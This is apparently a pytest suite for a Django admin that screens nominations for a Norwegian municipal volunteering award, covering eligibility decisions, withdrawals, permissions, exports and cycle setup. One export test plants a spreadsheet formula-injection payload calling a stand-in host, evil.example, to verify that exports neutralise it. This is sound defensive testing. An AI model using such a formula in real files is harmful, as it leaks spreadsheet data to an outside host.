"""Screening in the admin: the secretariat's lists, decisions, withdrawals, exports and the setup
of a cycle."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.messages import constants as message_levels
from django.core.files.base import ContentFile
from django.utils import timezone

from nominations.defaults import DEFAULT_CRITERIA
from nominations.models import (
    Answer,
    Attachment,
    Candidate,
    CriterionClause,
    Cycle,
    Eligibility,
    Municipality,
    Nomination,
    NominationStatus,
    NominatorKind,
)

from .helpers import pdf_bytes

# The secretariat's pages in English, the msgids, whatever the translations say.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english_admin")]

CANDIDATES = "/admin/nominations/candidate/"
NOMINATIONS = "/admin/nominations/nomination/"
CYCLES = "/admin/nominations/cycle/"


# --- Building data -------------------------------------------------------------------------------


def kommuner(cycle, count, numbers=()):
    """`count` municipalities valid in the cycle's year and not yet candidates, those with
    `numbers` first."""
    valid = Municipality.objects.valid_in(cycle.year).kommuner().exclude(candidacies__cycle=cycle)
    chosen = list(valid.filter(number__in=numbers).order_by("number"))
    chosen += list(valid.exclude(number__in=numbers).order_by("number")[: count - len(chosen)])
    return chosen


def add_nominations(cycle, count, candidates, status=NominationStatus.SUBMITTED, files=False):
    """`count` nominations spread over the candidates in turn, each answering every criterion
    with a text naming the nomination and the criterion, and a link as evidence."""
    criteria = list(cycle.criteria.all())
    start = Nomination.objects.filter(cycle=cycle).count()
    submitted_at = timezone.now() - datetime.timedelta(days=1)
    nominations = Nomination.objects.bulk_create(
        Nomination(
            cycle=cycle,
            candidate=candidates[i % len(candidates)],
            municipality=candidates[i % len(candidates)].municipality,
            status=status,
            reference=None
            if status == NominationStatus.DRAFT
            else f"AFK-{cycle.year}-{start + i + 1:04d}",
            nominator_name=f"Nominator {start + i + 1}",
            nominator_email=f"n{start + i + 1}@example.org",
            nominator_phone="+47 900 00 000",
            nominator_kind=NominatorKind.ORGANISATION,
            organisation_name="Frivilligsentralen",
            organisation_number="974760673",
            reason=f"Reason {start + i + 1}",
            consent_at=submitted_at,
            submitted_at=None if status == NominationStatus.DRAFT else submitted_at,
        )
        for i in range(count)
    )
    Answer.objects.bulk_create(
        Answer(
            nomination=nomination,
            criterion=criterion,
            text=f"{nomination.nominator_name} on {criterion.title}",
            evidence_url=f"https://example.org/{nomination.pk}/{criterion.position}",
        )
        for nomination in nominations
        for criterion in criteria
    )
    if files:
        Attachment.objects.bulk_create(
            Attachment(
                nomination=nomination,
                criterion=criterion,
                file=f"attachments/{cycle.year}/{nomination.pk}-{criterion and criterion.pk}",
                original_name=f"evidence-{nomination.pk}.pdf",
                content_type="application/pdf",
                size=100,
            )
            for nomination in nominations
            for criterion in (None, criteria[0])
        )
    return nominations


def make_candidates(cycle, count, numbers=()):
    return Candidate.objects.bulk_create(
        Candidate(cycle=cycle, municipality=m) for m in kommuner(cycle, count, numbers)
    )


def store_file(nomination, name, criterion=None):
    return Attachment.objects.create(
        nomination=nomination,
        criterion=criterion,
        file=ContentFile(pdf_bytes(), name=name),
        original_name=name,
        content_type="application/pdf",
        size=len(pdf_bytes()),
    )


def run_action(client, changelist, action, objects, follow=False):
    """Choose an action for the objects on a list, as the list's form posts it."""
    payload = {"action": action, "_selected_action": [o.pk for o in objects], "index": 0}
    return client.post(changelist, payload, follow=follow)


def confirm_action(client, changelist, action, objects, reason):
    """The intermediate page's form, posted with the reason."""
    payload = {"action": action, "_selected_action": [o.pk for o in objects], "confirm": "yes"}
    return client.post(changelist, {**payload, "reason": reason})


def messages_of(response):
    return [(m.level, str(m)) for m in response.context["messages"]]


@pytest.fixture
def nominated_oslo(open_cycle):
    """Oslo (0301) with three submitted nominations, a withdrawn one and a draft."""
    [candidate] = make_candidates(open_cycle, 1, numbers=["0301"])
    add_nominations(open_cycle, 3, [candidate])
    add_nominations(open_cycle, 1, [candidate], status=NominationStatus.WITHDRAWN)
    draft = add_nominations(open_cycle, 1, [candidate], status=NominationStatus.DRAFT)[0]
    draft.candidate = None  # a draft makes no candidate
    draft.save(update_fields=["candidate"])
    return candidate


# --- The list of candidates and the decisions ---------------------------------------------------


def test_the_candidate_list_shows_counts_and_status(admin_client, open_cycle, nominated_oslo):
    [other] = make_candidates(open_cycle, 1, numbers=["1812"])
    add_nominations(open_cycle, 1, [other])
    Candidate.objects.filter(pk=other.pk).update(
        eligibility=Eligibility.INELIGIBLE, eligibility_reason="Not a municipality."
    )

    response = admin_client.get(CANDIDATES)

    assert response.status_code == 200
    rows = {c.municipality.number: c for c in response.context["cl"].result_list}
    assert rows["0301"].nomination_count == 3  # submitted only
    assert rows["1812"].nomination_count == 1
    page = response.content.decode()
    assert "Oslo (0301)" in page
    assert "Not eligible" in page and "Not yet screened" in page
    # The count leads to the candidate's nominations.
    assert f"candidate__id__exact={nominated_oslo.pk}&amp;status=submitted" in page


def test_the_candidate_list_searches_the_register_by_name_or_number(admin_client, open_cycle):
    make_candidates(open_cycle, 2, numbers=["0301", "1812"])
    for term in ("oslo", "03"):
        response = admin_client.get(CANDIDATES, {"q": term})
        found = [c.municipality.number for c in response.context["cl"].result_list]
        assert found == ["0301"]


def test_not_eligible_without_a_reason_is_refused_beside_the_field(admin_client, nominated_oslo):
    page = run_action(admin_client, CANDIDATES, "mark_ineligible", [nominated_oslo])
    assert page.status_code == 200
    assert page.context["objects"] == [nominated_oslo]

    response = confirm_action(
        admin_client, CANDIDATES, "mark_ineligible", [nominated_oslo], reason="  "
    )

    assert response.status_code == 200
    assert response.context["form"].errors["reason"] == [
        "Give the reason why the candidate is not eligible."
    ]
    assert 'class="form-row errors"' in response.content.decode()
    nominated_oslo.refresh_from_db()
    assert (
        nominated_oslo.eligibility,
        nominated_oslo.eligibility_reason,
        nominated_oslo.screened_at,
    ) == (
        Eligibility.PENDING,
        "",
        None,
    )


def test_not_eligible_with_a_reason_is_stored_for_all_the_selected(admin_client, open_cycle):
    candidates = make_candidates(open_cycle, 2)

    response = confirm_action(
        admin_client, CANDIDATES, "mark_ineligible", candidates, reason="Nominated by itself only."
    )

    assert response.status_code == 302
    for candidate in candidates:
        candidate.refresh_from_db()
        assert candidate.eligibility == Eligibility.INELIGIBLE
        assert candidate.eligibility_reason == "Nominated by itself only."
        assert candidate.screened_at is not None
    assert LogEntry.objects.filter(object_id__in=[str(c.pk) for c in candidates]).count() == 2


def test_eligible_needs_no_reason(admin_client, nominated_oslo):
    response = confirm_action(
        admin_client, CANDIDATES, "mark_eligible", [nominated_oslo], reason=""
    )

    assert response.status_code == 302
    nominated_oslo.refresh_from_db()
    assert (
        nominated_oslo.eligibility == Eligibility.ELIGIBLE
        and nominated_oslo.screened_at is not None
    )


def test_the_candidate_page_applies_the_same_rule(admin_client, nominated_oslo):
    url = f"{CANDIDATES}{nominated_oslo.pk}/change/"

    refused = admin_client.post(url, {"eligibility": "ineligible", "eligibility_reason": ""})
    assert refused.status_code == 200
    assert refused.context["adminform"].form.errors["eligibility_reason"]
    nominated_oslo.refresh_from_db()
    assert nominated_oslo.eligibility == Eligibility.PENDING

    stored = admin_client.post(url, {"eligibility": "ineligible", "eligibility_reason": "Late."})
    assert stored.status_code == 302
    nominated_oslo.refresh_from_db()
    assert (nominated_oslo.eligibility, nominated_oslo.eligibility_reason) == (
        Eligibility.INELIGIBLE,
        "Late.",
    )
    assert nominated_oslo.screened_at is not None


def test_the_candidate_page_shows_every_nomination_side_by_side(
    admin_client, open_cycle, nominated_oslo
):
    nominations = list(nominated_oslo.nominations.order_by("submitted_at", "pk"))
    first_criterion = open_cycle.criteria.get(position=1)
    evidence = store_file(nominations[0], "vedtak.pdf", criterion=first_criterion)
    general = store_file(nominations[1], "mandat.pdf")

    response = admin_client.get(f"{CANDIDATES}{nominated_oslo.pk}/change/")

    assert response.status_code == 200
    comparison = response.context["comparison"]
    assert comparison.nominations == nominations  # the withdrawn one too, with its status
    assert [row.criterion.position for row in comparison.rows] == [1, 2, 3, 4, 5, 6]
    for row in comparison.rows:
        assert [cell.answer.text for cell in row.cells] == [
            f"{n.nominator_name} on {row.criterion.title}" for n in nominations
        ]
    assert comparison.rows[0].cells[0].files == [evidence]
    assert comparison.other_files[1] == [general]
    page = response.content.decode()
    for nomination in nominations:
        assert nomination.reference in page
        assert nomination.nominator_name in page
    assert f"https://example.org/{nominations[2].pk}/5" in page
    assert f"/admin/nominations/nomination/attachment/{evidence.pk}/" in page
    assert f"/admin/nominations/nomination/attachment/{general.pk}/" in page
    assert "Withdrawn" in page


# --- Nominations: the list, withdrawal, the read-only page ---------------------------------------


def test_drafts_are_hidden_unless_asked_for(admin_client, nominated_oslo):
    listed = admin_client.get(NOMINATIONS).context["cl"].result_list
    assert {n.status for n in listed} == {NominationStatus.SUBMITTED, NominationStatus.WITHDRAWN}
    assert len(listed) == 4

    drafts = admin_client.get(NOMINATIONS, {"status": "draft"}).context["cl"].result_list
    assert [n.status for n in drafts] == [NominationStatus.DRAFT]


def test_withdrawing_in_the_admin_requires_a_reason(admin_client, nominated_oslo):
    nomination = nominated_oslo.nominations.filter(status=NominationStatus.SUBMITTED).first()

    page = run_action(admin_client, NOMINATIONS, "withdraw_on_request", [nomination])
    assert page.status_code == 200 and nomination.reference in page.content.decode()

    refused = confirm_action(admin_client, NOMINATIONS, "withdraw_on_request", [nomination], "")
    assert refused.status_code == 200
    assert refused.context["form"].errors["reason"]
    nomination.refresh_from_db()
    assert nomination.status == NominationStatus.SUBMITTED

    done = confirm_action(
        admin_client,
        NOMINATIONS,
        "withdraw_on_request",
        [nomination],
        "The nominator asked by phone on 3 May.",
    )
    assert done.status_code == 302
    nomination.refresh_from_db()
    assert nomination.status == NominationStatus.WITHDRAWN
    assert nomination.withdrawal_reason == "The nominator asked by phone on 3 May."
    assert nomination.withdrawn_at is not None
    assert Candidate.objects.with_counts().get(pk=nominated_oslo.pk).nomination_count == 2


def test_what_a_nominator_wrote_cannot_be_changed_in_the_admin(admin_client, nominated_oslo):
    nomination = nominated_oslo.nominations.first()
    url = f"{NOMINATIONS}{nomination.pk}/change/"

    page = admin_client.get(url)
    assert page.status_code == 200
    assert 'name="nominator_name"' not in page.content.decode()
    assert nomination.reason in page.content.decode()

    assert admin_client.post(url, {"nominator_name": "Someone else"}).status_code == 403
    assert admin_client.post(f"{NOMINATIONS}{nomination.pk}/delete/").status_code == 403
    nomination.refresh_from_db()
    assert nomination.nominator_name.startswith("Nominator")


# --- Attachments ---------------------------------------------------------------------------------


@pytest.fixture
def attachment(nominated_oslo):
    return store_file(nominated_oslo.nominations.first(), "vedtak.pdf")


def test_the_secretariat_downloads_an_attachment_as_a_file(admin_client, attachment):
    response = admin_client.get(f"{NOMINATIONS}attachment/{attachment.pk}/")

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == pdf_bytes()


def test_staff_without_nomination_rights_cannot_download_or_export(
    client, django_user_model, attachment
):
    staff = django_user_model.objects.create_user("staff", password="x", is_staff=True)
    client.force_login(staff)

    assert client.get(f"{NOMINATIONS}attachment/{attachment.pk}/").status_code == 403
    assert client.get(f"{NOMINATIONS}export/").status_code == 403
    # Nor does the candidate page show what nominators wrote.
    staff.user_permissions.add(*_permissions("view_candidate"))
    page = client.get(f"{CANDIDATES}{attachment.nomination.candidate_id}/change/")
    assert page.status_code == 200 and "comparison" not in page.context


def test_a_juror_without_staff_status_is_sent_to_the_login(client, django_user_model, attachment):
    juror = django_user_model.objects.create_user("juror", password="x")
    client.force_login(juror)

    response = client.get(f"{NOMINATIONS}attachment/{attachment.pk}/")

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def _permissions(*codenames):
    from django.contrib.auth.models import Permission

    return Permission.objects.filter(content_type__app_label="nominations", codename__in=codenames)


# --- Export --------------------------------------------------------------------------------------


def export(client, file_format, **filters):
    query = f"?{'&'.join(f'{k}={v}' for k, v in filters.items())}" if filters else ""
    formats = {"csv": "0", "xlsx": "1"}
    return client.post(
        f"{NOMINATIONS}export/{query}",
        {"format": formats[file_format], "resource": "0"},
    )


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def xlsx_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


EXPECTED_START = [
    "Award",
    "Year",
    "Reference",
    "Status",
    "Municipality number",
    "Municipality",
    "County",
    "Nominator",
    "E-mail",
    "Phone",
    "Nominated by",
    "Organisation",
    "Organisation number",
    "Reason",
    "Submitted",
    "Dialog med frivilligheten",
    "Dialog med frivilligheten – evidence",
]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_export_has_a_row_per_nomination_with_the_answers(
    admin_client, nominated_oslo, file_format
):
    response = export(admin_client, file_format)

    assert response.status_code == 200
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    header, body = rows[0], rows[1:]
    assert header[: len(EXPECTED_START)] == EXPECTED_START
    assert header[-1] == "Attachments"
    assert len(header) == 15 + 2 * len(DEFAULT_CRITERIA) + 1
    assert len(body) == 4  # three submitted and one withdrawn; no draft
    values = [dict(zip(header, row, strict=True)) for row in body]
    first = next(v for v in values if v["Reference"] == f"AFK-{nominated_oslo.cycle.year}-0001")
    assert first["Award"] == "Årets frivillighetskommune"
    assert first["Municipality number"] == "0301"  # text, leading zero kept
    assert first["Municipality"] == "Oslo"
    assert first["County"] == "Oslo"
    assert first["Organisation number"] == "974760673"
    assert first["Nominated by"] == "A voluntary organisation"
    assert first["Møteplasser"] == "Nominator 1 on Møteplasser"
    assert first["Møteplasser – evidence"].startswith("https://example.org/")
    assert {v["Status"] for v in values} == {"Submitted", "Withdrawn"}
    submitted = Nomination.objects.get(reference=first["Reference"]).submitted_at
    oslo_time = submitted.astimezone(ZoneInfo("Europe/Oslo"))
    if file_format == "csv":
        assert first["Submitted"] == oslo_time.strftime("%Y-%m-%d %H:%M")
        assert first["Year"] == str(nominated_oslo.cycle.year)
    else:
        assert first["Submitted"].replace(microsecond=0) == oslo_time.replace(
            tzinfo=None, microsecond=0
        )
        assert first["Year"] == nominated_oslo.cycle.year
        assert first["Attachments"] == 0


def test_the_export_follows_the_list_filters(admin_client, nominated_oslo):
    rows = csv_rows(export(admin_client, "csv", status="withdrawn"))
    assert len(rows) == 2 and rows[1][3] == "Withdrawn"


def test_no_nominators_text_becomes_a_spreadsheet_formula(admin_client, nominated_oslo):
    Nomination.objects.filter(pk=nominated_oslo.nominations.first().pk).update(
        reason='=HYPERLINK("https://evil.example/?"&A1;"Click")'
    )

    csv_reason = [r for r in csv_rows(export(admin_client, "csv")) if "HYPERLINK" in r[13]]
    assert csv_reason[0][13].startswith("'=HYPERLINK")
    assert csv_reason[0][9] == "'+47 900 00 000"  # a spreadsheet would calculate this too

    response = export(admin_client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[13] for row in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(row[13].value)]
    assert cells[0].data_type == "s"
    assert cells[0].value.startswith("=HYPERLINK")  # shown as written, never evaluated
    assert xlsx_rows(response)[1][9] == "+47 900 00 000"


def test_an_export_of_several_cycles_heads_the_answers_by_position(
    admin_client, open_cycle, nominated_oslo
):
    past = open_cycle.copy_to_year(open_cycle.year - 1)
    [candidate] = make_candidates(past, 1, numbers=["1812"])
    add_nominations(past, 1, [candidate])

    header = csv_rows(export(admin_client, "csv"))[0]

    assert "K1 Dialog med frivilligheten" in header
    assert "K5 Medvirkning i planarbeid – evidence" in header
    assert len(header) == 15 + 2 * len(DEFAULT_CRITERIA) + 1


# --- Constant numbers of queries ------------------------------------------------------------------


# Session, user, the page's own rows and its prefetches: 6 or 7 today, at 10 and at 300.
MAX_QUERIES = 8


@pytest.mark.parametrize("size", [10, 300])
def test_screening_pages_take_the_same_number_of_queries_however_many_nominations(
    admin_client, open_cycle, size, django_assert_max_num_queries
):
    [crowded] = make_candidates(open_cycle, 1, numbers=["0301"])
    add_nominations(open_cycle, size, [crowded], files=True)
    candidates = make_candidates(open_cycle, max(size // 3, 1))
    add_nominations(open_cycle, size, candidates, files=True)

    with django_assert_max_num_queries(MAX_QUERIES):
        assert admin_client.get(CANDIDATES).status_code == 200
    with django_assert_max_num_queries(MAX_QUERIES):
        page = admin_client.get(f"{CANDIDATES}{crowded.pk}/change/")
        assert len(page.context["comparison"].nominations) == size
    with django_assert_max_num_queries(MAX_QUERIES):
        assert admin_client.get(NOMINATIONS).status_code == 200
    with django_assert_max_num_queries(MAX_QUERIES):
        rows = csv_rows(export(admin_client, "csv"))
        assert len(rows) == 2 * size + 1
    with django_assert_max_num_queries(MAX_QUERIES):
        assert admin_client.get(CYCLES).status_code == 200


# --- Setting up a cycle --------------------------------------------------------------------------


def _cited(cycle, ordered=True):
    def anchors(criterion):
        cited = [c.anchor for c in criterion.clauses.order_by("criterionclause__position")]
        return cited if ordered else sorted(cited)

    return {
        c.position: (
            c.title,
            c.weight,
            [(p.value, p.description) for p in c.scale_points.all()],
            anchors(c),
        )
        for c in cycle.criteria.prefetch_related("scale_points")
    }


def test_copy_to_next_year_makes_a_draft_with_the_criteria_and_refuses_twice(
    admin_client, open_cycle
):
    response = run_action(admin_client, CYCLES, "copy_to_next_year", [open_cycle], follow=True)

    [(level, text)] = messages_of(response)
    assert level == message_levels.SUCCESS
    assert f"{open_cycle.award} {open_cycle.year + 1}</a> was created as a draft" in text
    new = Cycle.objects.get(award=open_cycle.award, year=open_cycle.year + 1)
    assert not new.is_published
    assert new.criteria.count() == len(DEFAULT_CRITERIA)
    assert _cited(new, ordered=False) == _cited(open_cycle, ordered=False)
    assert all(len(points) == 5 and clauses for _t, _w, points, clauses in _cited(new).values())

    again = run_action(admin_client, CYCLES, "copy_to_next_year", [open_cycle], follow=True)
    [(level, text)] = messages_of(again)
    assert level == message_levels.ERROR
    assert f"has a cycle for {open_cycle.year + 1} already" in text
    assert Cycle.objects.filter(year=open_cycle.year + 1).count() == 1


def test_copy_to_next_year_keeps_the_order_of_the_cited_clauses(admin_client, open_cycle):
    run_action(admin_client, CYCLES, "copy_to_next_year", [open_cycle])
    new = Cycle.objects.get(award=open_cycle.award, year=open_cycle.year + 1)
    assert _cited(new) == _cited(open_cycle)


def test_the_default_criteria_are_added_once(admin_client, open_cycle):
    year = open_cycle.year + 2
    empty = Cycle.objects.create(award=open_cycle.award, year=year, **Cycle.default_times(year))

    first = run_action(admin_client, CYCLES, "add_default_criteria", [empty], follow=True)
    assert empty.criteria.count() == len(DEFAULT_CRITERIA)
    assert messages_of(first)[0][0] == message_levels.SUCCESS

    second = run_action(admin_client, CYCLES, "add_default_criteria", [empty], follow=True)
    assert empty.criteria.count() == len(DEFAULT_CRITERIA)
    assert messages_of(second)[0][0] == message_levels.WARNING


def test_the_cycle_list_shows_the_phase_and_the_counts(
    admin_client, open_cycle, nominated_oslo, django_assert_max_num_queries
):
    for year in range(open_cycle.year - 3, open_cycle.year):
        open_cycle.copy_to_year(year)

    with django_assert_max_num_queries(MAX_QUERIES):  # no query per cycle
        response = admin_client.get(CYCLES)

    cycles = {c.year: c for c in response.context["cl"].result_list}
    assert len(cycles) == 4
    latest = cycles[open_cycle.year]
    assert (latest.candidate_count, latest.nomination_count, latest.criterion_count) == (
        1,
        3,
        len(DEFAULT_CRITERIA),
    )
    assert cycles[open_cycle.year - 1].candidate_count == 0
    page = response.content.decode()
    assert "Open for nominations" in page and "Draft" in page


def test_a_criterion_cites_only_its_awards_platform(admin_client, open_cycle):
    from platforms.importer import SHIPPED_TEXTS, import_platform_bytes

    other = import_platform_bytes(SHIPPED_TEXTS[1].read_bytes(), SHIPPED_TEXTS[1].name).platform
    foreign = other.clauses.first()
    criterion = open_cycle.criteria.get(position=5)
    cited = list(CriterionClause.objects.filter(criterion=criterion))
    data = {
        "cycle": open_cycle.pk,
        "position": 5,
        "title": criterion.title,
        "question": criterion.question,
        "weight": "1",
        "criterionclause_set-TOTAL_FORMS": len(cited) + 1,
        "criterionclause_set-INITIAL_FORMS": len(cited),
        "scale_points-TOTAL_FORMS": 0,
        "scale_points-INITIAL_FORMS": 0,
    }
    for i, row in enumerate(cited):
        data |= {
            f"criterionclause_set-{i}-id": row.pk,
            f"criterionclause_set-{i}-criterion": criterion.pk,
            f"criterionclause_set-{i}-position": row.position,
            f"criterionclause_set-{i}-clause": row.clause_id,
        }
    new = len(cited)
    data |= {
        f"criterionclause_set-{new}-criterion": criterion.pk,
        f"criterionclause_set-{new}-position": new + 1,
        f"criterionclause_set-{new}-clause": foreign.pk,
    }

    response = admin_client.post(f"/admin/nominations/criterion/{criterion.pk}/change/", data)

    assert response.status_code == 200
    assert "the platform the award is based on" in response.content.decode()
    assert not criterion.clauses.filter(pk=foreign.pk).exists()
